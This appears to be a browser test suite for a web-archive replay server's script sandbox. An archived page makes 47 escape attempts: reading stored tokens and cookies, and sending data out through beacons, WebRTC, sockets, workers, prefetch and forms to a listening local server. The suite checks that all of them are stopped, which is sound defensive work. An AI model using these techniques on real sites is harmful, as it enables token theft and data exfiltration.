/**
 * A page that was written to get out, opened with its scripts by the way that a person goes, on a server that asks for a token. Whatever it
 * tries is stopped; another server on this machine, which writes down every byte, hears nothing; and scripts that mean no harm run.
 */
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:net';
import type { FastifyInstance } from 'fastify';
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createApp } from '../../src/server/app.ts';
import { askOver, opened } from '../../src/server/over-sockets.suite.ts';
import { archiveOf, collectionOf, collectionsOf } from '../../src/server/replay/collection.suite.ts';
import { BROWSER, launchBrowser } from '../browser.ts';

const TOKEN = 'o-token-do-servidor-de-teste';
const STAMP = '20050506120000';
const AT = Date.UTC(2005, 4, 6, 12);
/** Starting a browser, and pages in it, on a machine with much else to do, ms. */
const LONG = 120_000;

/** Writes down what it is sent, over TCP and UDP. A connection without a byte it does not know of. */
class OtherServer {
  readonly heard: string[] = [];
  readonly #tcp: Server;
  readonly #udp: Socket;
  port = 0;
  udpPort = 0;

  constructor() {
    this.#tcp = createServer((socket) => {
      socket.on('error', () => {});
      socket.on('data', (bytes) => {
        this.heard.push(`tcp ${bytes.toString('latin1').split('\r\n')[0]}`);
        const body = '<p>outro</p>';
        socket.end(
          `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
        );
      });
    });
    this.#udp = createSocket('udp4').on('message', () => this.heard.push('udp'));
  }

  async open(): Promise<void> {
    await new Promise<void>((resolve) => this.#tcp.listen(0, '127.0.0.1', resolve));
    this.port = (this.#tcp.address() as { port: number }).port;
    await new Promise<void>((resolve) => this.#udp.bind(0, '127.0.0.1', resolve));
    this.udpPort = this.#udp.address().port;
  }

  close(): void {
    this.#tcp.close();
    this.#udp.close();
  }
}

const RTC = `function call(){
  const peer = new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:UDP'},{urls:'turn:127.0.0.1:OTHER?transport=tcp',username:'a',credential:'b'}]});
  peer.createDataChannel('x');
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}`;

/** Each says how it ended: 'out' when it came through, anything else is what stopped it. */
const ATTEMPTS = `
${RTC}
const HERE = 'http://127.0.0.1:OURS', OUT = 'http://127.0.0.1:OTHER';
const found = window.found = {}, all = [];
const attempt = (name, work) => { found[name] = 'unsettled'; all.push(Promise.resolve().then(work).then(() => { found[name] = 'out' }, (error) => { found[name] = String(error && error.name || error) })) };
const event = (target, good, bad) => new Promise((resolve, reject) => { target.addEventListener(good, resolve); target.addEventListener(bad, () => reject(bad)) });
const loads = (name, attributes, good = 'load') => { const e = Object.assign(document.createElement(name), attributes); const over = event(e, good, 'error'); document.body.append(e); return over };
const xhr = (url, credentials) => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.withCredentials = credentials; x.onload = resolve; x.onerror = () => reject('error'); x.open('GET', url); x.send() });
const page = (text) => URL.createObjectURL(new Blob([text], { type: 'text/html' }));

attempt('our API', () => fetch(HERE + '/api/v1/collections'));
attempt('our API without an answer', () => fetch(HERE + '/api/v1/collections', { mode: 'no-cors' }));
attempt('our API with the cookie', () => fetch(HERE + '/api/v1/collections', { credentials: 'include' }));
attempt('our API with the cookie, the old way', () => xhr(HERE + '/api/v1/collections', true));
attempt('our API as a script', () => loads('script', { src: HERE + '/api/v1/collections' }));
attempt('our API as a picture', () => loads('img', { src: HERE + '/api/v1/collections' }));
attempt('our page in a frame', async () => { const f = document.createElement('iframe'); f.src = HERE + '/simples'; const over = event(f, 'load', 'error'); document.body.append(f); await over; if (f.contentWindow.location.href) return; });
attempt('another key', () => fetch(HERE + '/replay/teste/scripts/${STAMP}/http://mau.pt/'));
attempt('the copy without a key', () => fetch(HERE + '/replay/teste/${STAMP}/http://alheio.pt/'));
attempt('what another site has in the archive', () => fetch(location.href.replace(/http:..mau.*/, 'http://alheio.pt/')));
const held = (value) => { if (!value) throw 'empty' };
attempt('cookies', () => held(document.cookie));
attempt('our token in the local storage', () => held(localStorage.getItem('token') || localStorage.token));
attempt('our token in the session storage', () => held(sessionStorage.getItem('token') || sessionStorage.token));
attempt('a true cookie', () => held(Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document)));
attempt('a true storage', () => held(document.createElement('iframe').contentWindow.localStorage));
attempt('the storage of a frame', () => { const f = document.createElement('iframe'); document.body.append(f); held(f.contentWindow.localStorage.getItem('token')) });
attempt('caches', () => caches.keys());
attempt('a database', () => event(indexedDB.open('x'), 'success', 'error'));
attempt('what stands around it', () => parent.document.title);
attempt('the window on top', () => top.document.title);
attempt('where the window on top is', () => top.location.href);
attempt('who opened it', () => opener.document.title);
attempt('the window on top, led elsewhere', () => { top.location.href = OUT + '/top' });
attempt('a window of its own', () => { if (open(OUT + '/popup') === null) throw 'null' });
attempt('a socket', () => event(new WebSocket('ws://127.0.0.1:OTHER/'), 'open', 'error'));
attempt('a socket to us', () => event(new WebSocket('ws://127.0.0.1:OURS/'), 'open', 'error'));
attempt('events', () => event(new EventSource(OUT + '/events'), 'open', 'error'));
attempt('another server', () => fetch(OUT + '/fetch', { mode: 'no-cors' }));
attempt('another server, led there by us', () => fetch(HERE + '/api/v1/collections/x/geo/1/download'));
attempt('transport', () => new WebTransport('https://127.0.0.1:OTHER/').ready);
attempt('a call', call);
attempt('a call by the older name', () => new webkitRTCPeerConnection({}));
attempt('a call from an empty frame', () => { const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.RTCPeerConnection({}) });
attempt('a service worker', () => navigator.serviceWorker.register('/replay/teste/${STAMP}/http://mau.pt/fora.js'));
const worker = (made) => new Promise((resolve, reject) => { const w = made(); w.onmessage = resolve; w.onerror = () => reject('error') });
const WORK = "fetch('" + OUT + "/worker',{mode:'no-cors'}).then(() => postMessage(1))";
attempt('a worker of a blob', () => worker(() => new Worker(URL.createObjectURL(new Blob([WORK])))));
attempt('a worker of data', () => worker(() => new Worker('data:text/javascript,' + encodeURIComponent(WORK))));
attempt('a worker of a file', () => worker(() => new Worker(location.href.replace(/http:..mau.*/, 'http://mau.pt/fora.js'))));
attempt('a shared worker', () => { new SharedWorker('data:text/javascript,' + encodeURIComponent(WORK)) });
attempt('a picture', () => loads('img', { src: OUT + '/img' }));
attempt('a script', () => loads('script', { src: OUT + '/script' }));
attempt('a module', () => import(OUT + '/module'));
attempt('a style', () => loads('link', { rel: 'stylesheet', href: OUT + '/style' }));
attempt('a font', () => new FontFace('x', 'url(' + OUT + '/font)').load());
attempt('a film', () => loads('video', { src: OUT + '/video' }, 'loadeddata'));
attempt('an object', () => loads('object', { data: OUT + '/object' }));
attempt('a script of text in a frame', () => new Promise((resolve, reject) => {
  addEventListener('message', ({ data }) => { if (data === 'srcdoc inline') resolve(); if (data === 'srcdoc file') reject('only the file ran') });
  const f = document.createElement('iframe');
  f.srcdoc = "<script>parent.postMessage('srcdoc inline','*');" + call + ";call()<\\/script><script src='" + location.href.replace(/http:..mau.*/, 'http://mau.pt/quadro.js') + "'><\\/script>";
  document.body.append(f);
}));
attempt('a call from a frame of text', () => new Promise((resolve, reject) => addEventListener('message', ({ data }) => { if (data === 'srcdoc called') resolve(); if (data === 'srcdoc has none') reject('none') })));
addEventListener('message', ({ data }) => { if (data === 'address') found['a script in the address of a frame'] = 'out' });
// What tells nobody how it ended: the other server would.
navigator.sendBeacon(OUT + '/beacon', 'x');
for (const rel of ['prefetch', 'prerender', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'icon', 'manifest'])
  document.head.append(Object.assign(document.createElement('link'), { rel, href: OUT + '/' + rel, as: 'image' }));
document.head.append(Object.assign(document.createElement('style'), { textContent: "@import '" + OUT + "/import'; #foto[alt^=f]{background:url(" + OUT + "/css)}" }));
document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [OUT + '/speculation'] }] }) }));
document.body.insertAdjacentHTML('beforeend', "<iframe src='javascript:\\"<script>parent.postMessage(\`address\`,\`*\`)<\\\\/script>\\"'></iframe><iframe src='data:text/html,<img src=" + OUT + "/data>'></iframe><iframe src='" + page("<img src='" + OUT + "/blob'>") + "'></iframe><iframe src='" + OUT + "/frame'></iframe><embed src='" + OUT + "/embed'><svg><image href='" + OUT + "/svg'/></svg><form id=f target=_blank action='" + OUT + "/form'></form><a id=p ping='" + OUT + "/ping' href='#x'>x</a><a id=d download=mau.txt href='data:text/plain,mau'>x</a>");
document.getElementById('f').submit();
document.getElementById('p').click();
document.getElementById('d').click();
window.over = Promise.all(all).then(() => fetch('dado.json')).then(() => found);
`;

const HARMLESS = `<!DOCTYPE html><html><head><title>antes</title><meta charset="utf-8"><link rel="stylesheet" href="/estilo.css">
<script><!--
document.title = 'correu';
//--></script><script src="/fora.js"></script><script type="module">import { feito } from './modulo.js'; window.modulo = feito;</script></head>
<body onload="window.carregou = true"><h1 id="h">Olá</h1><button onclick="window.clicado = (window.clicado || 0) + 1; return false">clique</button>
<a id="js" href="javascript:window.ligado = 1">ligar</a><img id="foto" src="/foto.png" alt="foto"><iframe id="q" src="http://alheio.pt/"></iframe>
<a id="outra" href="http://alheio.pt/">alheio</a><a id="nenhuma" href="/nenhuma">nenhuma</a>
<script>var dentro = document.createElement('script'); dentro.text = 'window.posto = 1'; document.head.appendChild(dentro);
var e = document.createElement('p'); e.setAttribute('onclick', 'window.tarde = 1'); e.id = 'tarde'; e.textContent = 'tarde'; document.body.append(e);
localStorage.setItem('cor', 'azul'); document.cookie = 'a=b; path=/'; window.guardado = localStorage.getItem('cor') + document.cookie;
window.dados = fetch('dado.json', { headers: { 'X-Requested-With': 'XMLHttpRequest' } }).then((a) => a.json());
window.aberto = fetch(location.href.replace(/http:..mau.*/, 'http://aberto.pt/dado.json')).then((a) => a.json());
window.letra = new FontFace('letra', 'url(/x)').load().catch(() => 'none');</script></body></html>`;

const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

let browser: Browser;
let app: FastifyInstance;
let context: BrowserContext;
let page: Page;
let port = 0;
const other = new OtherServer();

const filled = (text: string) =>
  text
    .replaceAll('OTHER', String(other.port))
    .replaceAll('UDP', String(other.udpPort))
    .replaceAll('OURS', String(port));

async function served(): Promise<void> {
  const script = 'text/javascript';
  const html = (script: string) => `<!DOCTYPE html><title>mau</title><body><script>${script}</script>`;
  const captures = () => [
    { url: 'http://mau.pt/', at: AT, body: HARMLESS },
    { url: 'http://mau.pt/fugir', at: AT, body: filled(html(ATTEMPTS)) },
    { url: 'http://mau.pt/vai', at: AT, body: filled(html("location.href = 'http://127.0.0.1:OTHER/vai'")) },
    {
      url: 'http://mau.pt/refresca',
      at: AT,
      body: filled(
        html('document.write(\'<meta http-equiv=refresh content="0;url=http://127.0.0.1:OTHER/meta">\')'),
      ),
    },
    {
      url: 'http://mau.pt/envia',
      at: AT,
      body: filled(
        html(
          'document.body.innerHTML = \'<form method=post action="http://127.0.0.1:OURS/api/v1/crawls"><input name=a value=b></form>\'; document.forms[0].submit()',
        ),
      ),
    },
    {
      url: 'http://mau.pt/dados',
      at: AT,
      body: filled(html("location.href = 'data:text/html,<img src=http://127.0.0.1:OTHER/data>'")),
    },
    {
      url: 'http://mau.pt/inteira',
      at: AT,
      body: filled(html("location.href = 'http://127.0.0.1:OURS/simples'")),
    },
    {
      url: 'http://mau.pt/desenho.svg',
      at: AT,
      type: 'image/svg+xml',
      body: '<svg xmlns="http://www.w3.org/2000/svg"><script>document.documentElement.setAttribute("correu","1")</script></svg>',
    },
    {
      url: 'http://mau.pt/desenha',
      at: AT,
      body: html("location.href = '/desenho.svg'").replace(
        "'/desenho.svg'",
        "location.href.replace('desenha', 'desenho.svg')",
      ),
    },
    {
      url: 'http://mau.pt/fora.js',
      at: AT,
      type: script,
      body: '"use strict"; window.fora = (function () { return this === undefined })();',
    },
    { url: 'http://mau.pt/modulo.js', at: AT, type: script, body: "export const feito = 'módulo';" },
    {
      url: 'http://mau.pt/quadro.js',
      at: AT,
      type: script,
      body: filled(
        `${RTC};parent.postMessage('srcdoc file','*');try{call();parent.postMessage('srcdoc called','*')}catch(e){parent.postMessage('srcdoc has none','*')}`,
      ),
    },
    { url: 'http://mau.pt/estilo.css', at: AT, type: 'text/css', body: 'h1{color:rgb(1,2,3)}' },
    { url: 'http://mau.pt/foto.png', at: AT, type: 'image/png', body: PIXEL },
    { url: 'http://mau.pt/dado.json', at: AT + 60_000, type: 'application/json', body: '{"a":1}' },
    {
      url: 'http://alheio.pt/',
      at: AT,
      body: '<title>alheio</title><p id=a></p><script>document.getElementById("a").textContent = "alheio correu"</script>',
    },
    {
      url: 'http://aberto.pt/dado.json',
      at: AT,
      type: 'application/json',
      headers: ['Access-Control-Allow-Origin', '*'],
      body: '{"b":2}',
    },
  ];
  // The pages name the port of the server that shows them: it is known when it listens.
  let archive = await archiveOf(captures());
  const collection = collectionOf({
    name: 'teste',
    title: 'Teste',
    get archive() {
      return archive;
    },
  } as never);
  app = createApp({
    collections: collectionsOf(collection),
    version: '1',
    access: { token: TOKEN, everything: true, hosts: [] },
  });
  port = await opened(app);
  archive = await archiveOf(captures());
}

beforeAll(async () => {
  if (BROWSER === null) return;
  await other.open();
  await served();
  browser = await launchBrowser();
}, LONG);

afterAll(async () => {
  await browser?.close();
  await app?.close();
  other.close();
});

beforeEach(async () => {
  if (BROWSER === null) return;
  other.heard.length = 0;
  context = await browser.newContext({ locale: 'pt-BR' });
  page = await context.newPage();
  await page.goto(`http://127.0.0.1:${port}/api/v1/health?token=${TOKEN}`);
  await page.evaluate(
    `localStorage.setItem('token', '${TOKEN}'); sessionStorage.setItem('token', '${TOKEN}')`,
  );
  expect(await context.cookies()).toHaveLength(1);
});

afterEach(async () => {
  await context?.close();
});

const copyOf = (url: string) => `http://127.0.0.1:${port}/replay/teste/${STAMP}/${url}`;

/** From the copy without scripts, past the warning, to the frame in which they run. */
async function runScripts(url: string): Promise<Frame> {
  await page.goto(copyOf(url));
  await page.getByRole('link', { name: 'executar os scripts' }).click();
  await page.getByRole('heading', { name: 'Executar os scripts da página?' }).waitFor();
  await page.getByRole('link', { name: 'Executar os scripts', exact: true }).click();
  await page.waitForURL(/\/scripts\/~/);
  return page.frames()[1]!;
}

const in_ = (frame: Frame, script: string) => frame.evaluate(script);

describe.skipIf(BROWSER === null)('an archived page with its scripts', () => {
  it(
    'runs them when a person asks for it, and not before',
    async () => {
      await page.goto(copyOf('http://mau.pt/'));
      expect(await page.title()).toBe('antes');
      const frame = await runScripts('http://mau.pt/');
      await frame.waitForFunction('window.carregou && window.modulo');
      expect(await in_(frame, '[document.title, fora, modulo, posto, origin, name, guardado]')).toEqual([
        'correu',
        true,
        'módulo',
        1,
        'null',
        '',
        'azula=b',
      ]);
      expect(await in_(frame, "getComputedStyle(document.querySelector('h1')).color")).toBe('rgb(1, 2, 3)');
      expect(await in_(frame, "document.querySelector('#foto').naturalWidth")).toBe(1);
      await frame.getByRole('button', { name: 'clique' }).click();
      await frame.getByRole('link', { name: 'ligar' }).click();
      await frame.getByText('tarde').click();
      expect(await in_(frame, '[clicado, ligado, tarde]')).toEqual([1, 1, 1]);
      // Its own data it reads, and that of others who let everybody.
      expect(await in_(frame, 'Promise.all([dados, aberto])')).toEqual([{ a: 1 }, { b: 2 }]);
      // A frame of another site has its scripts too, and a key of its own.
      const inner = page.frames().find((one) => one.url().endsWith('/http://alheio.pt/'))!;
      await inner.waitForSelector('text=alheio correu');
      const keyOf = (one: Frame) => /~([^/]+)/.exec(one.url())![1];
      expect(keyOf(inner)).not.toBe(keyOf(frame));
    },
    LONG,
  );

  it(
    'says what it is, leads on within its frame, and back to the copy without scripts',
    async () => {
      const frame = await runScripts('http://mau.pt/');
      expect(await page.getByRole('note').textContent()).toContain('scripts ligados');
      await frame.getByRole('link', { name: 'alheio' }).click();
      await frame.waitForSelector('text=alheio correu');
      await page.evaluate('history.back()');
      await page.frames()[1]!.getByRole('link', { name: 'nenhuma' }).click();
      await page.frames()[1]!.waitForSelector('text=Este endereço não está no arquivo');
      await page.getByRole('link', { name: 'desligar' }).click();
      await page.waitForURL(copyOf('http://mau.pt/'));
      expect(await page.title()).toBe('antes');
    },
    LONG,
  );

  it(
    'cannot get out, whatever it tries',
    async () => {
      let downloads = 0;
      page.on('download', () => downloads++);
      const frame = await runScripts('http://mau.pt/fugir');
      const before = page.url();
      await frame.waitForFunction('window.over');
      const found = (await in_(frame, 'over')) as Record<string, string>;
      expect(Object.entries(found).filter(([, how]) => how === 'out')).toEqual([]);
      expect(Object.keys(found)).toHaveLength(47);
      expect(found['a script of text in a frame']).toBe('only the file ran');
      expect(found['a call from a frame of text']).toBe('none');
      expect([page.url(), context.pages().length, downloads]).toEqual([before, 1, 0]);
      expect(other.heard).toEqual([]);
    },
    LONG,
  );

  it.each(['vai', 'refresca', 'envia', 'dados', 'inteira'])(
    'cannot lead its own frame out: %s',
    async (name) => {
      const tried = page.waitForEvent('console', (message) => /violates|Framing/.test(message.text()));
      const frame = await runScripts(`http://mau.pt/${name}`);
      const before = page.url();
      await tried;
      expect(page.url()).toBe(before);
      // What is shown is the page itself, or the browser's own word that it was stopped.
      await expect.poll(() => frame.url()).toMatch(/^chrome-error:|\/replay\/teste\/~/);
      expect(other.heard).toEqual([]);
    },
    LONG,
  );

  it(
    'runs no scripts in what is no page',
    async () => {
      const frame = await runScripts('http://mau.pt/desenha');
      await frame.waitForURL(/desenho\.svg$/);
      expect(await in_(frame, "document.documentElement.getAttribute('correu')")).toBe(null);
    },
    LONG,
  );

  it(
    'is not shown outside of its frame',
    async () => {
      const frame = await runScripts('http://mau.pt/');
      const fresh = await context.newPage();
      await fresh.goto(frame.url());
      expect(fresh.url()).toContain('/replay/teste/scripts/~');
      expect(fresh.frames()).toHaveLength(3);
      await fresh.close();
    },
    LONG,
  );

  it(
    'would be heard: the other server hears what nobody stops',
    async () => {
      await page.goto(`http://127.0.0.1:${other.port}/`);
      await page.evaluate(filled(`(() => {${RTC};call();fetch('/fetch')})()`));
      await expect.poll(() => other.heard.some((one) => one === 'udp')).toBe(true);
      expect(other.heard).toContain('tcp GET /fetch HTTP/1.1');
    },
    LONG,
  );
});

describe.skipIf(BROWSER === null)('a key', () => {
  it(
    'opens the replay of its collection for reading, and nothing else',
    async () => {
      const frame = await runScripts('http://mau.pt/');
      const path = new URL(frame.url()).pathname;
      const key = /~([^/]+)/.exec(path)![1]!;
      const asked = (at: string, headers: Record<string, string> = {}, method = 'GET') =>
        askOver(port, at, { method, headers: { host: `127.0.0.1:${port}`, ...headers } });
      const stranger = {
        origin: 'null',
        'sec-fetch-site': 'cross-site',
        'sec-fetch-mode': 'cors',
        'sec-fetch-dest': 'empty',
      };
      const own = await asked(path, stranger);
      expect([own.status, own.headers['access-control-allow-origin'], own.headers['set-cookie']]).toEqual([
        200,
        'null',
        undefined,
      ]);
      // Asked for as data it is data.
      expect(own.headers['content-security-policy']).toMatch(/^sandbox allow-forms;/);
      const alien = await asked(path.replace('mau.pt', 'alheio.pt'), stranger);
      expect([alien.status, alien.headers['access-control-allow-origin']]).toEqual([200, undefined]);
      const changed = `${key.slice(0, -1)}${key.endsWith('A') ? 'B' : 'A'}`;
      for (const [at, status] of [
        [path.replace(key, changed), 403],
        [path.replace('/teste/', '/outra/'), 403],
        [path.replace(`~${key}/`, ''), 403],
        [`/api/v1/collections?key=${key}`, 403],
        [`/replay/teste/scripts/${STAMP}/http://mau.pt/`, 403],
      ] as const)
        expect([at, (await asked(at, stranger)).status]).toEqual([at, status]);
      // Without the browser's word a program reads by its token, and by a key what the key is for.
      expect((await asked(`/replay/teste/${STAMP}/http://mau.pt/`)).status).toBe(401);
      expect((await asked(path, stranger, 'POST')).status).toBe(403);
      const preflight = await asked(
        path,
        { ...stranger, 'access-control-request-headers': 'x-a' },
        'OPTIONS',
      );
      expect([preflight.status, preflight.headers['access-control-allow-headers']]).toEqual([204, '*']);
      expect((await asked(path.replace(key, changed), stranger, 'OPTIONS')).status).toBe(403);
    },
    LONG,
  );
});
